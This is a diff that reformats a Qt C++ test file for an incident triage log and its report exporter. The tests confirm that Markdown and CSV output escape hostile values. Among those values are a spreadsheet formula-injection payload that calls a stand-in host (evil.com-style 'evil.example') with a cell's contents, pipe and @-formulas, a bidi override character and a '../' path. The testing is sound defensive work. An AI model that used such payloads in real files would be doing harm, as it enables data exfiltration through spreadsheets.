@@ -158,7 +158,8 @@ void TestIncidentModels::schema_migratesVersion1_keepsEveryEntry()
 {
     // A version 1 file exactly as the previous release wrote it.
     {
-        QSqlDatabase db = QSqlDatabase::addDatabase(QStringLiteral("QSQLITE"), QStringLiteral("v1"));
+        QSqlDatabase db =
+            QSqlDatabase::addDatabase(QStringLiteral("QSQLITE"), QStringLiteral("v1"));
         db.setDatabaseName(m_path);
         QVERIFY(db.open());
         QSqlQuery q(db);
@@ -268,7 +269,8 @@ void TestIncidentModels::schema_newerVersion_refused()
         QVERIFY(log.open(m_path));
     }
     {
-        QSqlDatabase db = QSqlDatabase::addDatabase(QStringLiteral("QSQLITE"), QStringLiteral("v3"));
+        QSqlDatabase db =
+            QSqlDatabase::addDatabase(QStringLiteral("QSQLITE"), QStringLiteral("v3"));
         db.setDatabaseName(m_path);
         QVERIFY(db.open());
         QSqlQuery q(db);
@@ -304,8 +306,8 @@ void TestIncidentModels::tags_incidentAndOperator_answersKeepTheirAction()
 
     // A follow-up origin belongs to the incident it follows up.
     log.setIncidentForOrigin(TriageOrigin::incidentRevert(), QStringLiteral("INC-2000"));
-    const qint64 revert =
-        w.action(3, TriageAction::resume(), TriageEntry::Result::Pending, 0, TriageOrigin::incidentRevert());
+    const qint64 revert = w.action(3, TriageAction::resume(), TriageEntry::Result::Pending, 0,
+                                   TriageOrigin::incidentRevert());
     QCOMPARE(log.entry(revert).incident, QStringLiteral("INC-2000"));
 
     QVERIFY(log.closeIncident());
@@ -326,9 +328,10 @@ void TestIncidentModels::tags_incidentAndOperator_answersKeepTheirAction()
     QStringList kinds;
     for (const TriageEntry &e : tagged)
         kinds.append(e.kind + QLatin1Char('/') + e.action);
-    QCOMPARE(kinds, QStringList({QStringLiteral("bot/pause"), QStringLiteral("incident/incident_closed"),
-                                 QStringLiteral("bot/pause"),
-                                 QStringLiteral("incident/incident_started")}));
+    QCOMPARE(
+        kinds,
+        QStringList({QStringLiteral("bot/pause"), QStringLiteral("incident/incident_closed"),
+                     QStringLiteral("bot/pause"), QStringLiteral("incident/incident_started")}));
     // The model shows the incident and who did it.
     TriageLogModel model(&log);
     const int row = [&] {
@@ -369,8 +372,10 @@ void TestIncidentModels::incident_survivesReopen_periodsAndNames()
         log.setOperator(QStringLiteral("Bob"), {});
         QVERIFY(log.closeIncident());
         QVERIFY(log.startIncident(QStringLiteral("INC-1"))); // reopened under the same name
-        QCOMPARE(log.incidentNames(), QStringList({QStringLiteral("INC-1"), QStringLiteral("INC-2")}));
-        const QList<TriageLog::IncidentPeriod> periods = log.incidentPeriods(QStringLiteral("INC-1"));
+        QCOMPARE(log.incidentNames(),
+                 QStringList({QStringLiteral("INC-1"), QStringLiteral("INC-2")}));
+        const QList<TriageLog::IncidentPeriod> periods =
+            log.incidentPeriods(QStringLiteral("INC-1"));
         QCOMPARE(periods.size(), 2);
         QCOMPARE(periods.at(0).startedBy, QStringLiteral("Ana"));
         QVERIFY(periods.at(0).closedAtMs >= periods.at(0).startedAtMs);
@@ -389,16 +394,20 @@ void TestIncidentModels::incidentName_validation()
              QStringLiteral("INC-2291"));
     QCOMPARE(TriageLog::normalizedIncidentName(QStringLiteral("Störung 12 / DB")),
              QStringLiteral("Störung 12 / DB"));
-    QCOMPARE(TriageLog::normalizedIncidentName(QStringLiteral("حادث ٤٢")), QStringLiteral("حادث ٤٢"));
+    QCOMPARE(TriageLog::normalizedIncidentName(QStringLiteral("حادث ٤٢")),
+             QStringLiteral("حادث ٤٢"));
     QVERIFY(TriageLog::normalizedIncidentName(QString()).isEmpty());
     QVERIFY(TriageLog::normalizedIncidentName(QStringLiteral("   ")).isEmpty());
     QVERIFY(TriageLog::normalizedIncidentName(QStringLiteral("a\nb")).isEmpty());
     QVERIFY(TriageLog::normalizedIncidentName(QStringLiteral("stream\u202Egnp")).isEmpty());
     QVERIFY(TriageLog::normalizedIncidentName(QStringLiteral("bell\u0007")).isEmpty());
-    QVERIFY(TriageLog::normalizedIncidentName(QString(TriageLog::kMaxIncidentName + 1, QLatin1Char('x')))
+    QVERIFY(TriageLog::normalizedIncidentName(
+                QString(TriageLog::kMaxIncidentName + 1, QLatin1Char('x')))
                 .isEmpty());
-    QCOMPARE(TriageLog::normalizedIncidentName(QString(TriageLog::kMaxIncidentName, QLatin1Char('x'))).size(),
-             TriageLog::kMaxIncidentName);
+    QCOMPARE(
+        TriageLog::normalizedIncidentName(QString(TriageLog::kMaxIncidentName, QLatin1Char('x')))
+            .size(),
+        TriageLog::kMaxIncidentName);
     TriageLog log;
     QVERIFY(log.open(m_path));
     QVERIFY(!log.startIncident(QStringLiteral("a\u0000b")));
@@ -416,8 +425,10 @@ void TestIncidentModels::plannedResumes_storedSettledOnce_surviveReopen()
         log.setProfile(QStringLiteral("Prod"));
         log.setOperator(QStringLiteral("Ana"), {});
         Writer w {log};
-        pauses = {w.action(1, TriageAction::pause(), TriageEntry::Result::Ok, kT0, TriageOrigin::pauseFor()),
-                  w.action(2, TriageAction::pause(), TriageEntry::Result::Ok, kT0, TriageOrigin::pauseFor())};
+        pauses = {w.action(1, TriageAction::pause(), TriageEntry::Result::Ok, kT0,
+                           TriageOrigin::pauseFor()),
+                  w.action(2, TriageAction::pause(), TriageEntry::Result::Ok, kT0,
+                           TriageOrigin::pauseFor())};
         PlannedResume plan;
         plan.dueAtMs = kT0 + 15 * 60 * 1000;
         plan.incident = QStringLiteral("INC-9");
@@ -529,7 +540,8 @@ void TestIncidentModels::revertPlan_eachRule()
     // 10: already reverted by an earlier revert.
     rows.append(row(10, Platform::Twitch, BotStatus::Active, t + 11));
     w.action(10, TriageAction::pause(), TriageEntry::Result::Ok, t + 10);
-    w.action(10, TriageAction::resume(), TriageEntry::Result::Ok, t + 11, TriageOrigin::incidentRevert());
+    w.action(10, TriageAction::resume(), TriageEntry::Result::Ok, t + 11,
+             TriageOrigin::incidentRevert());
     // 11: an answer from a version that did not record updatedAt.
     rows.append(row(11, Platform::Twitch, BotStatus::Paused, t + 12));
     w.action(11, TriageAction::pause(), TriageEntry::Result::Ok, 0);
@@ -558,8 +570,8 @@ void TestIncidentModels::revertPlan_eachRule()
     discord.result = TriageEntry::Result::Pending;
     log.appendResult(log.append(discord), {}, QStringLiteral("saved"));
 
-    const BotRevertPlan plan =
-        BotRevertPlan::build(log.entries({}), store, QStringLiteral("Prod"), TriageOrigin::incidentRevert());
+    const BotRevertPlan plan = BotRevertPlan::build(log.entries({}), store, QStringLiteral("Prod"),
+                                                    TriageOrigin::incidentRevert());
     using Skip = BotRevertPlan::Skip;
     const auto expect = [&](int account, Skip skip, PendingAction revert,
                             Platform platform = Platform::Twitch) {
@@ -666,7 +678,8 @@ void TestIncidentModels::reportCells_csvAndMarkdown()
     QCOMPARE(markdown(QStringLiteral("<@everyone>")), QStringLiteral("\\<\\@everyone\\>"));
     QCOMPARE(markdown(QStringLiteral("one\r\ntwo\nthree")), QStringLiteral("one<br>two<br>three"));
     QCOMPARE(markdown(QStringLiteral("a\\b")), QStringLiteral("a\\\\b"));
-    QCOMPARE(markdown(QStringLiteral("`code` ~x~ &amp;")), QStringLiteral("\\`code\\` \\~x\\~ \\&amp;"));
+    QCOMPARE(markdown(QStringLiteral("`code` ~x~ &amp;")),
+             QStringLiteral("\\`code\\` \\~x\\~ \\&amp;"));
 }
 
 void TestIncidentModels::report_timelineInUtc_hostileNamesEscaped()
@@ -738,8 +751,9 @@ void TestIncidentModels::report_timelineInUtc_hostileNamesEscaped()
     // number of cells; no raw markup, link or control character survives.
     const QString md = report.toMarkdown();
     QVERIFY(md.startsWith(QLatin1String("# Incident report: INC-2291\n")));
-    QVERIFY2(md.contains(QLatin1String("**15 actions**: 13 OK, 1 failed, 1 without an answer, 0 other")),
-             qPrintable(md.left(800)));
+    QVERIFY2(
+        md.contains(QLatin1String("**15 actions**: 13 OK, 1 failed, 1 without an answer, 0 other")),
+        qPrintable(md.left(800)));
     QVERIFY(md.contains(QLatin1String("**Exported** 2023-11-14 23:13:20 UTC")));
     QVERIFY(md.contains(QLatin1String("| 2023-11-14 22:13:20 UTC | ")));
     QVERIFY(md.contains(QLatin1String("\\<b\\>Ana\\</b\\>")));
@@ -796,7 +810,8 @@ void TestIncidentModels::report_timelineInUtc_hostileNamesEscaped()
                             "Operator ID"));
     QVERIFY(lines.at(2).startsWith(QLatin1String("INC-2291,2023-11-14T22:13:20.000Z,")));
     QVERIFY(csv.contains(QLatin1String(",'=Prod|EU,")));
-    QVERIFY(csv.contains(QLatin1String("\"'=HYPERLINK(\"\"https://evil.example/?\"\"&B2,\"\"x\"\")\"")));
+    QVERIFY(csv.contains(
+        QLatin1String("\"'=HYPERLINK(\"\"https://evil.example/?\"\"&B2,\"\"x\"\")\"")));
     QVERIFY(csv.contains(QLatin1String(",'+1,")));
     QVERIFY(csv.contains(QLatin1String(",'-2,")));
     QVERIFY(csv.contains(QLatin1String(",'@SUM(A1),")));
@@ -812,7 +827,8 @@ void TestIncidentModels::report_timelineInUtc_hostileNamesEscaped()
             QVERIFY2(!QStringLiteral("=+-@").contains(field.front()), qPrintable(line));
         }
     }
-    QCOMPARE(IncidentReport::fileBaseName(QStringLiteral("INC 22/91")), QStringLiteral("incident-INC_22_91"));
+    QCOMPARE(IncidentReport::fileBaseName(QStringLiteral("INC 22/91")),
+             QStringLiteral("incident-INC_22_91"));
     QCOMPARE(IncidentReport::fileBaseName(QStringLiteral("../x")), QStringLiteral("incident-_x"));
 }
 
